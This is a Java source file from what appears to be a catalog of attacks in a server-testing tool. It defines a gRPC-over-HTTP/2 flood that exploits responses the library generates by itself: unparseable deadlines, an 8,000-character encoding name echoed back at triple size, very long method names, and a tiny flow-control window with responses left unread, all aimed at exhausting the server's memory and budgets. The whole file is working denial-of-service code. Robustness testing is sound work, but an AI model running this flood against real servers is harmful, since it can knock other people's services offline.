package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;

/** Makes requests that a library of gRPC answers by itself, and does not take the answers. */
final class SelfAnsweredCalls extends Attack {
  private static final int AT_ONCE = 25;
  private static final int CONNECTIONS_AT_ONCE = 16;

  /** Few, so that their answers do not fit into the buffers of their sockets. */
  private static final int UNREAD_CONNECTIONS = 2;

  private static final int INITIAL_WINDOW_SIZE = 4;

  /** Percent signs, each of which takes three bytes in the message of an answer. */
  private static final String LONG = "%".repeat(8_000);

  private final byte[] headers;
  private final boolean reads;

  private SelfAnsweredCalls(String name, Family family, byte[] headers, boolean reads) {
    super(name, family, Access.NO_KEY, Bounds.of(2_000, 64, 32));
    this.headers = headers;
    this.reads = reads;
  }

  /** A deadline that cannot be parsed. */
  static SelfAnsweredCalls malformedTimeouts() {
    byte[] headers = Grpc.headers(Grpc.ENQUEUE_STREAM, "", List.of("grpc-timeout", "1h"));
    return new SelfAnsweredCalls("malformed-timeouts", Family.BUDGETS, headers, true);
  }

  /** Answers repeat the name of the encoding. */
  static SelfAnsweredCalls unknownEncodings() {
    byte[] headers = Grpc.headers(Grpc.ENQUEUE, "", List.of("grpc-encoding", LONG));
    return new SelfAnsweredCalls("unknown-encodings", Family.BUDGETS, headers, false);
  }

  /** The bodies of the answers wait for a window. */
  static SelfAnsweredCalls noGrpcWithoutWindow() {
    byte[] headers = Grpc.otherHeaders("/" + "x".repeat(100));
    return new SelfAnsweredCalls("no-grpc-no-window", Family.MEMORY, headers, true);
  }

  static SelfAnsweredCalls longMethods() {
    byte[] headers = Grpc.headers("/no.such.Service/" + LONG, "");
    return new SelfAnsweredCalls("long-methods", Family.MEMORY, headers, false);
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(reads ? CONNECTIONS_AT_ONCE : UNREAD_CONNECTIONS, () -> flood(attempt));
  }

  private void flood(Attempt attempt) throws IOException {
    try (Http2 connection = reads ? attempt.grpc() : attempt.narrowGrpc()) {
      connection.send(Frame.setting(INITIAL_WINDOW_SIZE, 0));
      while (attempt.isRunning()) {
        ByteArrayOutputStream calls = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
          int flags = Frame.END_HEADERS | Frame.END_STREAM;
          calls.writeBytes(
              new Frame(Frame.HEADERS, flags, connection.newStream(), headers).encode());
        }
        connection.send(calls.toByteArray());
        while (reads && connection.hasInput()) {
          connection.read();
        }
      }
    }
  }
}
